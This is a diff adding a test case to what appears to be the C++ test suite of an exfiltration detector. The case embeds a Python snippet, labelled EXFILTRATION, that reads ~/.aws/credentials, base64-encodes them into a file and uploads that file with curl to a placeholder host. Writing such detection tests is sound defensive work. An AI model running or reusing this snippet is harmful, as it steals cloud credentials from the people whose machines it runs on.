@@ -215,5 +215,23 @@ ls -1t "$VAULT"/*.enc | tail -n +20 | xargs -r rm -f
                   B);
 }
 
+// Path.cwd() / f"{label}.b64": a name made at run time with only its
+// extension known is too like others to match a glob, but the very same
+// shape read back (its path handed to a script in an environment variable)
+// is the file that was written.
+TEST(TwoHundredAndSixthRoundClasses, AFileNamedAtRunTimeReadBackByItsShape) {
+  check_with_twin({"credentials base64'd into <label>.b64, uploaded by a script given its path", B, R"py(
+import base64, os, subprocess, sys
+from pathlib import Path
+label = sys.argv[1]
+data = Path.home().joinpath(".aws/credentials").read_bytes()
+out = Path.cwd() / f"{label}.b64"
+out.write_bytes(base64.b64encode(data))
+env = dict(os.environ, BK_FILE=str(out))
+subprocess.run(["bash", "-c", 'curl -sS -F "f=@$BK_FILE" https://bk.example.net/up'], env=env)
+)py", "EXFILTRATION"},
+                  "BK_FILE=str(out)", "BK_FILE=f\"{label}.log\"", "another file of its own uploaded", M);
+}
+
 }  // namespace
 }  // namespace mai::assess::test
